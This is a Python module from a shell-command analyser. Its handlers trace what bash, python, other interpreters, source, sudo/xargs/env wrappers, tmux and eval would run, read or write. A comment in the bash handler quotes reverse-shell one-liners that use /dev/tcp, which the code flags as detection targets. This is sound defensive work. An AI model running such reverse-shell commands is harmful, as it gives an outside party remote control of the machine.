"""Shell command handlers: programs that run other programs or code (shells, python and
other interpreters, source, wrappers such as sudo/xargs/env, watch, tmux, eval).

Handler signature as in :mod:`pipeline.analysis.shell.cmd_text`.
"""

from __future__ import annotations

import re

from pipeline.analysis.shell.args import has_opt, looks_like_path, opt_values, parse_opts
from pipeline.analysis.shell.cmd_serve import interp_serves, serve
from pipeline.analysis.shell.tables import (CODE_FLAGS, FOLDER_SERVERS, OPTIONS, PY_ARG, SHELL_SETUP, SYSTEM_BIN,
                                             WRAPPERS)
from pipeline.analysis.shell.ctx import Ctx
from pipeline.analysis.shell.model import DEV_TCP
from pipeline.analysis.shell.redirects import names_stdin
from pipeline.analysis.shell.words import SUB_RE



def _path_args(ctx: Ctx, args: list[str]) -> None:
    """Arguments that look like paths are read (a script's or module's arguments)."""
    for p in args:
        if looks_like_path(ctx.text(p)):
            ctx.read(p)


def _script(ctx: Ctx, pos: list[str], runner: str) -> None:
    """``interpreter SCRIPT args``: the script runs (read as ``runner`` says: shell, python,
    other), its path-like arguments are read."""
    ctx.execute(pos[0], runner)
    _path_args(ctx, pos[1:])

def h_shell(ctx: Ctx, args: list[str], name: str) -> None:
    """bash/sh/zsh [-c STRING | SCRIPT args | -s (stdin)]."""
    has_c, stdin_mode, i = False, False, 0
    while i < len(args):
        t = ctx.text(args[i])
        if t == "--":
            i += 1
            break
        if t in ("-o", "+o", "-O", "+O", "--rcfile", "--init-file"):
            i += 2
            continue
        if not t.startswith(("-", "+")) or t in ("-", "+"):
            break
        if t.startswith("-") and not t.startswith("--"):
            has_c |= "c" in t[1:]
            stdin_mode |= "s" in t[1:]
        # `-euo pipefail`: a bundle ending in -o / -O takes the next word as its option's name
        i += 2 if len(t) > 2 and t[0] in "-+" and t[1] != "-" and t[-1] in "oO" else 1
    pos = args[i:]
    if has_c:
        if pos:
            ctx.run_text(pos[0])
        return
    if pos and not stdin_mode and not names_stdin(ctx.text(pos[0])):
        _script(ctx, pos, "shell")
        return
    peers = [m for _, t in ctx.redirs if (m := DEV_TCP.match(ctx.text(t)))]
    if peers:
        # no script, no -c text and a stream on a raw connection (`bash -i >& /dev/tcp/h/p
        # 0>&1`, `nohup sh < /dev/tcp/h/p &`, behind any wrapper: a reverse shell): it runs
        # what the peer sends; `bash job.sh > /dev/tcp/h/p` (a script, above) only writes
        for m in peers:
            ctx.acc.add("executes", f"{m.group(1)}://{m.group(2)}:{m.group(3)}")
        return
    ctx.stdin_program("shell")


def h_python(ctx: Ctx, args: list[str], name: str) -> None:
    """python [-c CODE | -m MODULE | SCRIPT | -] args."""
    i = 0
    while i < len(args):
        t = ctx.text(args[i])
        if t == "-" or not t.startswith("-"):
            break
        if t == "--":
            i += 1
            break
        letters = t[1:]
        if t.startswith("--") or letters[0] in PY_ARG:
            i += 2 if letters in tuple(PY_ARG) else 1  # -W arg / -Warg / --version
            continue
        cut = min((k for k in (letters.find("c"), letters.find("m")) if k >= 0), default=-1)
        if cut >= 0:
            val = letters[cut + 1:]
            if not val and i + 1 < len(args):
                i += 1
                val = ctx.text(args[i])
            if letters[cut] == "c":
                ctx.program(val, "python")
            elif val in FOLDER_SERVERS:  # python -m http.server: serves a folder
                serve(ctx, val, args[i + 1:])
            elif val in ("pytest", "py.test"):  # runs the test files and conftest.py files
                ctx.run_argv(["pytest", *args[i + 1:]])
            elif val in ("pip", "pip3"):  # `python -m pip install .` builds the project
                ctx.run_argv(["pip", *args[i + 1:]])
            else:
                _path_args(ctx, args[i + 1:])
            return
        i += 1
    pos = args[i:]
    if pos and not names_stdin(ctx.text(pos[0])):
        _script(ctx, pos, "python")
        return
    ctx.stdin_program("python")


def h_interp(ctx: Ctx, args: list[str], name: str) -> None:
    """node/perl/ruby/php/...: -e CODE (analysed as code), SCRIPT (executed), or stdin."""
    if interp_serves(ctx, name, args):  # php -S, ruby -run -e httpd
        return
    flags = CODE_FLAGS.get(name, ("-e",))
    inplace, code_seen, pos, i = False, False, [], 0
    while i < len(args):
        t = ctx.text(args[i])
        if pos:
            pos.append(args[i])
        elif t in flags and i + 1 < len(args):
            ctx.program(ctx.text(args[i + 1]), "other")
            code_seen = True
            i += 1
        elif name == "perl" and t.startswith("-") and len(t) > 1 and not t.startswith("--"):
            letters = t[1:]
            for k, ch in enumerate(letters):
                if ch in "eE":
                    code = letters[k + 1:] or (ctx.text(args[i + 1]) if i + 1 < len(args) else "")
                    if not letters[k + 1:]:
                        i += 1
                    ctx.program(code, "other")
                    code_seen = True
                    break
                if ch == "i":
                    inplace = True
                    break
                if ch in "IMmxdCD" or (ch in "l0" and letters[k + 1:].isdigit()):
                    break  # option with an attached value
        elif name in ("php", "java") and t in ("-f", "-jar") and i + 1 < len(args):
            ctx.execute(args[i + 1], "other")
            code_seen = True
            i += 1
        elif t in ("-r", "--require", "-I", "-cp", "-classpath") and i + 1 < len(args):
            i += 1
        elif not t.startswith("-") or t == "-":
            pos.append(args[i])
        i += 1
    if code_seen:
        for p in pos:
            ctx.read(p)
            if inplace:
                ctx.write(p)
        return
    if name == "deno" and pos and ctx.text(pos[0]) == "run":
        pos = pos[1:]
    if pos and not names_stdin(ctx.text(pos[0])):
        _script(ctx, pos, "other")
        return
    if name not in ("java",):
        ctx.stdin_program("other")


def h_source(ctx: Ctx, args: list[str], name: str) -> None:
    """source FILE / . FILE: executes FILE in the current shell (``/dev/stdin``: what arrives)."""
    if args and names_stdin(ctx.text(args[0])):
        ctx.stdin_program("shell")
    elif args:
        ctx.execute(args[0], "shell")


def h_wrapper(ctx: Ctx, args: list[str], name: str) -> None:
    """sudo, nohup, time, nice, timeout, stdbuf, xargs, env, ...: analyse the wrapped command."""
    spec = WRAPPERS[name]
    opts, rest = parse_opts(args, spec, ("user", "group", "signal", "kill-after", "chdir", "unset",
                                         "arg-file", "delimiter", "max-args", "max-procs", "max-lines",
                                         "replace", "eof", "max-chars", "output", "adjustment", "split-string",
                                         "close-from", "prompt", "host", "role", "type", "other-user"), stop=True)
    if name == "command" and has_opt(opts, "-v", "-V"):
        if has_opt(opts, "-v") and len(rest) == 1 and not ctx.dynamic(rest[0]):
            ctx.stdout_literal(rest[0])  # where X is: `$(command -v X) ARGS` runs X
        return
    if name == "timeout" and rest:
        rest = rest[1:]
    elif name in ("chroot", "taskset", "flock") and rest:
        if name == "flock" and opt_values(opts, "-c", "--command"):
            ctx.run_text(opt_values(opts, "-c", "--command")[0])
            return
        rest = rest[1:]
    elif name == "sudo" and has_opt(opts, "-e", "--edit"):
        for p in rest:
            ctx.write(p)
        return
    elif name == "su":
        for cmd in opt_values(opts, "-c", "--command"):
            ctx.run_text(cmd)
        return
    elif name == "env":
        for s in opt_values(opts, "-S", "--split-string"):
            ctx.run_text(s)
            return
        while rest and re.match(r"^[A-Za-z_]\w*=", ctx.text(rest[0])):
            rest = rest[1:]
        if not rest:
            ctx.read("env:")
            ctx.stdout_resources(("env:",))
            return
    elif name == "strace":
        for o in opt_values(opts, "-o"):
            ctx.write(o)
    elif name == "xargs":
        for f in opt_values(opts, "-a", "--arg-file"):
            ctx.read(f)
        ctx.stdin_taken = True  # its commands read no stdin (`| xargs tee f`, `xargs tee f <<EOF`)
        rest = rest or ["echo"]
        items = list(ctx.stdin.items) or ["$XARGS_INPUT"]
        repl = (opt_values(opts, "-I", "--replace", "-i") or [None])[-1]
        if repl is None and has_opt(opts, "-i", "--replace"):
            repl = "{}"
        if repl:
            for it in items[:8]:
                ctx.run_argv([w.replace(repl, it) for w in rest])
        else:
            ctx.run_argv(rest + items[:8])
        return
    if name == "sudo" and has_opt(opts, "-S", "--stdin"):
        ctx.stdin_taken = True  # its first line is the password, not the command's
    if rest:
        ctx.run_argv(rest)
    elif name == "sudo" and has_opt(opts, "-i", "-s", "--login", "--shell"):
        ctx.stdin_program("shell")


def h_watch(ctx: Ctx, args: list[str], name: str) -> None:
    """watch [-n N] CMD...: the command runs repeatedly."""
    _, rest = parse_opts(args, *OPTIONS["watch"], stop=True)
    if rest:
        ctx.run_text_literal(" ".join(ctx.text(w) for w in rest))


def h_tmux(ctx: Ctx, args: list[str], name: str) -> None:
    """tmux new -d 'CMD' / send-keys 'CMD' Enter; screen -dm CMD."""
    words = [ctx.text(a) for a in args]
    if name == "screen":
        _, rest = parse_opts(args, *OPTIONS["screen"], stop=True)
        if rest:
            ctx.run_argv(rest)
        return
    if words and words[0] in ("new", "new-session", "new-window", "neww", "send-keys", "send", "split-window"):
        _, pos = parse_opts(args[1:], *OPTIONS["tmux new"])
        keys = [ctx.text(p) for p in pos if ctx.text(p) not in ("Enter", "C-m", "KPEnter")]
        if keys:
            ctx.run_text_literal(" ".join(keys))


def h_eval(ctx: Ctx, args: list[str], name: str) -> None:
    """eval WORDS: analysable only when every word is literal, or is the output of a
    shell-setup program (`eval "$(pyenv init -)"`, see :func:`_shell_setup`): that
    program was analysed as its substitution, and the setup text it prints is trusted."""
    if all(_shell_setup(ctx, a) for a in args):
        return
    if any(ctx.dynamic(a) for a in args):
        ctx.fail("eval of text built at run time")
    elif args:
        ctx.run_text_literal(" ".join(ctx.text(a) for a in args))


_LITERAL_WORD = re.compile(r"[\w./~=:,+@%-]+")


def _shell_setup(ctx: Ctx, word: str) -> bool:
    """True when ``word`` is a whole ``$(P ARGS)`` (or backquoted) substitution whose text is
    one simple command of literal words (no quote, variable, substitution, redirection,
    pipe or list) running a program of ``SHELL_SETUP`` (by name, or from one of the
    system's folders, ``SYSTEM_BIN``: ``/opt/homebrew/bin/brew``; not one this command
    wrote) with one of its setup subcommands and allowed words."""
    m = SUB_RE.fullmatch(word)
    if not m:
        return False
    kind, inner = ctx.an.subs[int(m.group(1))]
    words = inner.split()
    if kind != "$" or not words or not all(_LITERAL_WORD.fullmatch(w) for w in words):
        return False
    parent, _, program = words[0].rpartition("/")
    if "/" in words[0] and not SYSTEM_BIN.fullmatch(parent):
        return False  # a setup program of the system's, not one unpacked or downloaded anywhere
    if any(w.endswith(f"/{program}") or w == program for w in ctx.acc.lists["writes"]):
        return False  # one this command wrote (downloaded, copied into a bin folder)
    entry = SHELL_SETUP.get(program)
    if entry is None:
        return False
    subcommands, allowed = entry
    rest = words[1:]
    for sub in subcommands:
        head = sub.split()
        if rest[:len(head)] == head and all(re.fullmatch(allowed, w) for w in rest[len(head):]):
            return True
    return False
